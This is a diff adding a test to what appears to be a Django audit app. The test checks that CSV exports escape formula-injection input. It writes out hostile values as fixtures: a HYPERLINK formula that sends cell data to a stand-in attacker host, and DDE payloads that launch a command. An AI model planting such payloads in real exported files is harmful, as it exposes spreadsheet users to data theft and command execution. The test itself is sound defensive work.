@@ -145,6 +145,35 @@ def test_it_exports_every_table_as_csv(client, quality_officer, decided, audit_c
     assert client.get("/quality/export/secrets.csv").status_code == 404
 
 
+def test_it_exports_hostile_text_as_text_not_formulas(
+    client, quality_officer, assessor, decided, audit_case
+):
+    assessor.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    assessor.save(update_fields=["full_name"])
+    client.force_login(quality_officer)
+    (task,) = open_tasks(audit_case)
+    client.post(reverse("quality:take", args=[audit_case.pk, task.pk]))
+    client.post(
+        reverse("quality:audit", args=[audit_case.pk, task.pk]),
+        {
+            "verdict": "finding",
+            "severity": "minor",
+            "description": "+cmd|' /C calc'!A0",
+            "corrective_action": "@SUM(1+1)*cmd|' /C calc'!A0",
+        },
+    )
+
+    def rows(table):
+        response = client.get(reverse("quality:export", args=[table]))
+        return list(csv.reader(io.StringIO(response.content.decode())))
+
+    assessors = {row[1]: row for row in rows("assessors")[1:]}
+    assert assessors[assessor.email][0] == "'" + assessor.full_name
+    (finding,) = rows("findings")[1:]
+    assert finding[6] == "'+cmd|' /C calc'!A0"
+    assert finding[7] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
 def test_it_finds_a_case_by_number_or_says_why_not(client, quality_officer, decided):
     client.force_login(quality_officer)
     found = client.get(reverse("quality:find_case") + f"?number={decided.pk}")
